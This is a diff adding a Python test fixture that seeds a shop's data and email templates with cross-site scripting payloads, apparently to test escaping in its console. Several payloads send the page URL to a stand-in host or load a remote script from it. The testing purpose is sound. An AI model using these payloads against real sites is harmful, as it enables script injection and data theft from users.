@@ -1,0 +1,152 @@
+"""A shop whose data was written by somebody who wants to run code in the console."""
+
+import csv
+import json
+from pathlib import Path
+from typing import Any
+
+from installation import Installation
+
+ELSEWHERE = "https://elsewhere.invalid"
+_RUN = f"executed(document.URL);new Image().src='{ELSEWHERE}/stolen'"
+PAYLOADS = (
+    f"<script>{_RUN}</script>",
+    f'"><img src=x onerror="{_RUN}">',
+    f"'><svg/onload={_RUN}>",
+    f"</title></textarea></style></script><script src={ELSEWHERE}/a.js></script>",
+    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
+    f'<a href="javascript:{_RUN}">Look</a><img src={ELSEWHERE}/seen.png>',
+    f"javascript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    "{{constructor.constructor('executed(1)')()}}${executed(1)}",
+    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
+)
+WORST = PAYLOADS[1]
+USER = "user <script>executed(1)</script>"
+PRODUCT = "P'\"><svg onload=executed(1)>"
+EVENT = "Bought <img src=x onerror=executed(1)>"
+# What is not well-formed is refused when the letter is saved; this much is taken.
+MJML = f"""<mjml><mj-body><mj-section><mj-column>
+<mj-raw>{PAYLOADS[0]}{PAYLOADS[4]}<img src="x" onerror="{_RUN}" /></mj-raw>
+<mj-text>{{{{ customer.first_name }}}} <a href="javascript:executed(1)">Look</a></mj-text>
+<mj-image src="{ELSEWHERE}/open.png" /><mj-button href="javascript:executed(1)">Buy</mj-button>
+<mj-button href="{{{{ customer.website }}}}">Visit</mj-button>
+<mj-text><a href="{{{{ unsubscribe_url }}}}">Unsubscribe</a></mj-text>
+</mj-column></mj-section></mj-body></mjml>"""
+
+
+def fill(shop: Installation, folder: Path) -> dict[str, str]:
+    """Put hostile data wherever data can be put; return the ids of what was made."""
+    for kind, path in (("products", _products(folder)), ("events", _messages(folder))):
+        shop.run("import", kind, str(path), "--quiet")
+    consents = folder / "consents.csv"
+    with consents.open("w", newline="") as file:
+        writer = csv.writer(file)
+        writer.writerow(
+            [
+                "customer_id",
+                "purpose",
+                "channel",
+                "status",
+                "wording_version",
+                "source",
+                "proof",
+                "at",
+            ]
+        )
+        for purpose in ("marketing", "tracking"):
+            writer.writerow(
+                [USER, purpose, "email", "granted", *PAYLOADS[:3], "2025-01-10T09:00:00Z"]
+            )
+    shop.run("import", "consents", str(consents), "--quiet")
+    shop.settle()
+    shop.post("/api/sources", {"name": WORST})
+    shop.post("/api/keys", {"name": WORST[:100]})
+    bought = {"type": "event_count", "event": EVENT, "count": {"at_least": 1}}
+    segment = shop.post(
+        "/api/segments", {"name": WORST, "description": PAYLOADS[0], "condition": bought}
+    )
+    rules = {
+        "rules": [{"name": WORST, "segment_id": segment["id"]}],
+        "default_name": PAYLOADS[0],
+    }
+    shop.client.put("/api/personas", json=rules).raise_for_status()
+    letter = {
+        "name": WORST,
+        "segment": {"type": "segment", "segment": segment["id"]},
+        "sender": {"from_address": "shop@example.com", "from_name": "<b onclick=executed(1)>"},
+        "template": {
+            "default_language": "en",
+            "variants": {
+                "en": {"subject": f"{PAYLOADS[0]} {{{{ customer.first_name }}}}", "mjml": MJML}
+            },
+        },
+    }
+    draft = shop.post("/api/broadcasts", letter)["id"]
+    sent = shop.post("/api/broadcasts", letter)["id"]
+    shop.post(f"/api/broadcasts/{sent}/send")
+    shop.wait(lambda: shop.get(f"/api/broadcasts/{sent}/progress")["state"] == "done")
+    shop.settle()
+    return {
+        "segment": segment["id"],
+        "draft": draft,
+        "sent": sent,
+        "mail": shop.get("/api/inbox")[0]["id"],
+        "profile": shop.get("/api/people", q=USER)["people"][0]["id"],
+    }
+
+
+def _products(folder: Path) -> Path:
+    path = folder / "products.csv"
+    with path.open("w", newline="") as file:
+        writer = csv.writer(file)
+        writer.writerow(
+            ["product_id", "name", "category", "brand", "price", "currency", "image_url", "url"]
+        )
+        for place, payload in enumerate(PAYLOADS):
+            id_ = f"P{place}" if place else PRODUCT
+            writer.writerow([id_, payload, payload, payload, 100, "JPY", PAYLOADS[6], PAYLOADS[6]])
+    return path
+
+
+def _messages(folder: Path) -> Path:
+    traits = {f"trait {place} {one}": one for place, one in enumerate(PAYLOADS)}
+    traits |= {
+        "email": "mallory@example.com",
+        "first_name": WORST,
+        "last_name": PAYLOADS[0],
+        "city": PAYLOADS[2],
+        "avatar": PAYLOADS[6],
+        "website": PAYLOADS[6],
+        "company": {"id": WORST, "name": WORST},
+    }
+    page = {"url": PAYLOADS[6], "title": PAYLOADS[0], "referrer": PAYLOADS[7], "path": WORST}
+    lines: list[dict[str, Any]] = [
+        {"type": "identify", "traits": traits},
+        {"type": "page", "name": WORST, "properties": page, "context": {"page": page}},
+    ]
+    for place, payload in enumerate(PAYLOADS):
+        item = {
+            "product_id": PRODUCT,
+            "name": payload,
+            "category": payload,
+            "price": 1,
+            "quantity": 1,
+        }
+        properties = {"query": payload, payload: payload, "products": [item], **item}
+        for event in (EVENT, payload, "Product Viewed", "Order Completed", "Product Added"):
+            order = {"order_id": f"{place} {payload}", "revenue": 1, "currency": "JPY"}
+            lines.append({"type": "track", "event": event, "properties": properties | order})
+    path = folder / "messages.jsonl"
+    agent = {"userAgent": WORST, "campaign": {"name": WORST, "source": WORST}}
+    path.write_text(
+        "\n".join(
+            json.dumps(
+                {"userId": USER, "messageId": f"m{place} {WORST}"[:100], "context": agent}
+                | {"timestamp": f"2025-06-01T10:{place % 60:02}:00Z"}
+                | line
+            )
+            for place, line in enumerate(lines)
+        )
+    )
+    return path
